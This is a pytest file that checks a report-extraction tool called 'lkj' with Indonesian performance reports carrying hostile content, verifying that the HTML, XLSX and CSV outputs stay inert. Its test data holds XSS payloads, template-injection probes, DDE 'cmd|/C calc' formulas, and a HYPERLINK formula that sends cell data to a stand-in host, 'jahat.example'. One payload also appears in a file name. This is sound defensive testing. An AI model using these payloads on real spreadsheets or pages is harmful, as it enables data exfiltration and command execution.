"""What a document contains arrives as text: nothing of it is executed, and no output asks for anything elsewhere."""

import csv
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from tests.extract.drawing import Sheet, save

LKJ = Path(sys.executable).with_name("lkj")
FORMULAS = ['=HYPERLINK("http://jahat.example/?"&A1)', "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd|' /C calc'!A0"]
MARKUP = [
    "<script>alert(1)</script>",
    '"onerror="alert(1)',
    "javascript:alert(1)",
    "</style><img src=x onerror=alert(1)>",
]
OWN_FORMULAS = re.compile(r"=(COUNTIF|COUNTBLANK|IF|IFERROR|SUM|AVERAGE|ROUND|\(|[A-Z]+\d)")
NAME = "'><img src=x onerror=alert(1)> =HYPERLINK(1) {{ 7*7 }}.pdf"


def hostile(path: Path) -> Path:
    """A report with a table of capaian that does not add up, hostile texts in its cells, headings and prose."""
    path.parent.mkdir(parents=True, exist_ok=True)
    sheet = Sheet()
    sheet.text(60, 60, "LAPORAN KINERJA TAHUN 2024 DINAS " + MARKUP[0], 14, bold=True)
    for n, text in enumerate([*MARKUP, *FORMULAS]):
        sheet.text(60, 90 + 14 * n, f"{text} sebesar 50% dari 10 menjadi 7.")
    header = ["No", "Indikator Kinerja", "Satuan", "Target", "Realisasi", "Capaian (%)"]
    rows = [[str(n + 1), text, "Persen", "80", "40", "90"] for n, text in enumerate([*FORMULAS, *MARKUP])]
    sheet.text(60, 230, "Tabel 1 Capaian Kinerja =1+1")
    xs = [60, 85, 320, 370, 420, 480, 540]
    ys = [240 + 24 * n for n in range(len(rows) + 2)]
    sheet.table(xs, ys, [header, *rows])
    return save(path, sheet)


def lkj(*arguments: object) -> None:
    command = [str(LKJ), *map(str, arguments), "--ocr", "never"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    hostile(root / "in" / ("Dinas " + NAME.removesuffix(".pdf")) / NAME)
    lkj("audit", root / "in", "--out", root / "out")
    for form in ("xlsx", "csv"):
        lkj("extract", root / "in", "--out", root / form, "--format", form)
    return root


class Page(HTMLParser):
    """What a page would do: the scripts in it, the attributes that act, and the addresses it names."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.scripts = 0
        self.acting: list[str] = []
        self.addresses: list[str] = []
        self.policy = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        given = {name: value or "" for name, value in attrs}
        self.acting += [name for name in given if name.startswith("on")]
        self.addresses += [given[name] for name in ("href", "src", "action", "xlink:href") if name in given]
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policy = given["content"]


def test_pages_run_no_script_but_their_own_and_ask_for_nothing(out: Path) -> None:
    pages = sorted((out / "out").rglob("*.html"))
    assert len(pages) == 2
    for path in pages:
        page = Page(path.read_text(encoding="utf-8"))
        assert page.scripts == 1
        assert page.acting == []
        assert page.policy.startswith("default-src 'none'")
        local = re.compile(
            r"#[\w-]*|data:image/[\w]+;base64,.*|[a-z0-9-]+/[a-z-]+\.(html|xlsx)(#[\w-]+)?|[a-z]+\.(xlsx|json)"
        )
        assert [one for one in page.addresses if not local.fullmatch(one)] == []


def books(out: Path) -> Iterator[Path]:
    yield from sorted(out.rglob("*.xlsx"))


def test_workbooks_hold_no_formulas_and_no_links_of_the_document(out: Path) -> None:
    seen: set[str] = set()
    for path in books(out):
        for sheet in openpyxl.load_workbook(path):
            for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                if cell.data_type == "f":
                    assert OWN_FORMULAS.match(str(cell.value)), (path, cell.value)
                    assert "cmd" not in str(cell.value) and "HYPERLINK" not in str(cell.value)
                seen.add(str(cell.value))
        with zipfile.ZipFile(path) as parts:
            relations = [parts.read(name).decode() for name in parts.namelist() if name.endswith(".rels")]
            assert not any("externalLink" in name for name in parts.namelist())
        targets = re.findall(r'Target="([^"]*)" TargetMode="External"', "".join(relations))
        assert all(re.fullmatch(r"laporan\.html(#temuan-\d+)?", target) for target in targets), targets
    for text in FORMULAS:
        assert any(text in value for value in seen), text


def test_tables_as_csv_do_not_calculate(out: Path) -> None:
    (table,) = [path for path in (out / "csv").rglob("*.csv") if path.name != "daftar.csv"]
    with table.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    for text in FORMULAS:
        assert any(f"'{text}" in row for row in rows), text


def test_the_data_are_what_the_document_says(out: Path) -> None:
    (path,) = (out / "out").glob("*/tables.json")
    cells = {
        cell["text"] for table in json.loads(path.read_text(encoding="utf-8"))["tables"] for cell in table["cells"]
    }
    assert set(FORMULAS) <= cells
    assert set(MARKUP) <= cells
